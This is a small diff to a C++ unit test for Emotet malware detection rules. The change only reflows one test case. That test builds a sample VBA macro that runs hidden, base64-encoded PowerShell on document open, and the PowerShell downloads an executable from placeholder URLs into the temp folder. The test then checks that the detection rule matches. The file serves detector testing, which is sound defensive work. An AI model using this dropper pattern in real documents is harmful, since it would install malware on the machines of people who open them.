@@ -135,9 +135,9 @@ TEST(EmotetRules, VbaWmiHiddenProcessNegative) {
 }
 
 TEST(EmotetRules, VbaEncodedPowerShellPositive) {
-  std::string ps = base64(utf16le(
-      "$urls = 'http://a.example/x/','http://b.example/y/';foreach($u in $urls){try{(New-Object Net.WebClient).DownloadFile($u,$env:TEMP+'\\\\a.exe');break}catch{}}"),
-                          false);
+  std::string ps = base64(
+      utf16le("$urls = 'http://a.example/x/','http://b.example/y/';foreach($u in $urls){try{(New-Object Net.WebClient).DownloadFile($u,$env:TEMP+'\\\\a.exe');break}catch{}}"),
+      false);
   std::string vba = "Sub Document_Open()\n  c = \"powershell -w hidden -e " + ps + "\"\nEnd Sub\n";
   EXPECT_TRUE(hit(vba, "Emotet_VBA_Encoded_PowerShell_2019", "vba_source"));
 }
